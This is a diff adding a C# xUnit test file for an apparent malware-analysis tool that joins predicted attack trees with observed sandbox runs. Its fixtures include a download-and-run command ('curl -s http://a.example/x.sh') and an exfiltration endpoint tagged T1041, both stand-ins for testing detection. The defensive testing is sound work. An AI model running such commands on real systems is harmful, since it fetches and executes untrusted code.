@@ -1,0 +1,77 @@
+using Wellguard.Artifacts;
+using Wellguard.AttackTrees;
+using Wellguard.Reports;
+using Wellguard.Signals;
+using Wellguard.Verdicts;
+using Xunit;
+
+namespace Wellguard.Tests.AttackTrees;
+
+/// <summary>What a scan predicted and a run showed, as one tree and one verdict.</summary>
+public sealed class JoinedTreeTests
+{
+    private static readonly DateOnly AnyDay = new(2026, 1, 1);
+
+    private static Node Of(string id, NodeKind kind, string label, SignalState state, params string[] attack) => new(id, kind, label, kind == NodeKind.Endpoint ? Stage.Download : Stage.Execution) { State = state, Attack = attack };
+
+    private static AttackTree Tree(SignalState state, params (NodeKind Kind, string Label, Verb Verb, string[] Attack)[] nodes) => new(
+        [Of("n0", NodeKind.Artifact, "app", state), .. nodes.Select((node, index) => Of($"n{index + 1}", node.Kind, node.Label, state, node.Attack))],
+        [.. nodes.Select((node, index) => new Edge(index == 0 ? "n0" : $"n{index}", $"n{index + 1}", node.Verb))]);
+
+    private static Report Report(AttackTree tree, CompletenessState state, params Signal[] signals) =>
+        new(new Artifact(ArtifactKind.Image, "app"), new Completeness(state, state == CompletenessState.Complete ? [] : [new("detonate", "app", "interrupted")]), new Verdict(Level.Clean, Decision.Allow, 0, "default", [], [])) { Tree = tree, Signals = signals };
+
+    private static Signal Says(string node, Severity severity = Severity.Medium, SignalClass kind = SignalClass.Flow) =>
+        new("content/downloads-and-runs-code", kind, "x", severity, Confidence.High, new Place("run.sh", 4)) { Node = node, Id = "s1" };
+
+    private static readonly AttackTree Predicted = Tree(SignalState.Predicted, (NodeKind.Process, "Entrypoint: /run.sh", Verb.Runs, []), (NodeKind.Endpoint, "http://a.example/x.sh", Verb.Downloads, ["T1105"]));
+
+    [Fact]
+    public void What_happened_as_predicted_is_confirmed_where_it_happened()
+    {
+        var observed = Tree(SignalState.Observed, (NodeKind.Process, "/run.sh", Verb.Runs, []), (NodeKind.Process, "curl -s http://a.example/x.sh", Verb.Runs, []), (NodeKind.Endpoint, "http://a.example/x.sh", Verb.Downloads, ["T1105"]));
+        var report = Joined.Judge(Report(Predicted, CompletenessState.Complete, Says("n2")), Report(observed, CompletenessState.Complete), Policy.Default, AnyDay);
+        Assert.Equal([SignalState.Observed, SignalState.Confirmed, SignalState.Observed, SignalState.Confirmed], report.Tree.Nodes.Select(node => node.State));
+        Assert.Equal((SignalState.Confirmed, "n3"), (report.Signals[0].State, report.Signals[0].Node));
+    }
+
+    [Theory]
+    [InlineData(CompletenessState.Complete, Severity.Medium, SignalState.Refuted, SignalState.Refuted)]
+    [InlineData(CompletenessState.Complete, Severity.High, SignalState.Refuted, SignalState.Predicted)]
+    [InlineData(CompletenessState.Partial, Severity.Medium, SignalState.Predicted, SignalState.Predicted)]
+    public void What_did_not_happen_is_refuted_by_a_whole_run_and_counts_when_it_is_grave(CompletenessState ran, Severity severity, SignalState node, SignalState signal)
+    {
+        var observed = Tree(SignalState.Observed, (NodeKind.Process, "/run.sh", Verb.Runs, []));
+        var report = Joined.Judge(Report(Predicted, CompletenessState.Complete, Says("n2", severity)), Report(observed, ran), Policy.Default, AnyDay);
+        Assert.Equal(node, report.Tree.Nodes.Single(of => of.Label == "http://a.example/x.sh").State);
+        Assert.Equal(signal, report.Signals[0].State);
+        Assert.Contains(report.Tree.Edges, edge => edge.To == report.Signals[0].Node && report.Tree.Nodes.Single(of => of.Id == edge.From).Label == "/run.sh");
+    }
+
+    [Fact]
+    public void A_secret_is_a_fact_that_no_run_refutes()
+    {
+        var predicted = Tree(SignalState.Predicted, (NodeKind.File, "/app/.env", Verb.Creates, []));
+        var report = Joined.Judge(Report(predicted, CompletenessState.Complete, Says("n1", kind: SignalClass.Secret)), Report(Tree(SignalState.Observed), CompletenessState.Complete), Policy.Default, AnyDay);
+        Assert.Equal((SignalState.Predicted, SignalState.Predicted), (report.Signals[0].State, report.Tree.Nodes[1].State));
+    }
+
+    [Fact]
+    public void A_run_that_failed_leaves_the_prediction_and_the_report_is_partial()
+    {
+        var report = Joined.Judge(Report(Predicted, CompletenessState.Complete, Says("n2")), Report(AttackTree.Empty, CompletenessState.Failed), Policy.Default, AnyDay);
+        Assert.Equal(CompletenessState.Partial, report.Completeness.State);
+        Assert.Equal(["n0", "n1", "n2"], report.Tree.Nodes.Select(node => node.Id));
+        Assert.All(report.Tree.Nodes, node => Assert.Equal(SignalState.Predicted, node.State));
+    }
+
+    [Fact]
+    public void What_is_new_against_the_version_before_is_told_and_numbers_are_no_difference()
+    {
+        var before = Report(Tree(SignalState.Observed, (NodeKind.Process, "node a.js 4711", Verb.Runs, [])), CompletenessState.Complete);
+        var now = Report(Tree(SignalState.Observed, (NodeKind.Process, "node a.js 12", Verb.Runs, []), (NodeKind.Endpoint, "http://b.example/", Verb.Sends, ["T1041"])), CompletenessState.Complete);
+        Assert.Equal([new Change("new", "download: http://b.example/ (T1041)")], Versions.Compare(now, before).Changes);
+        Assert.Equal([new Change("gone", "download: http://b.example/ (T1041)")], Versions.Compare(before, now).Changes);
+        Assert.Equal("unknown", Versions.Compare(now, before with { Completeness = new(CompletenessState.Partial, []) }).Changes[0].Kind);
+    }
+}
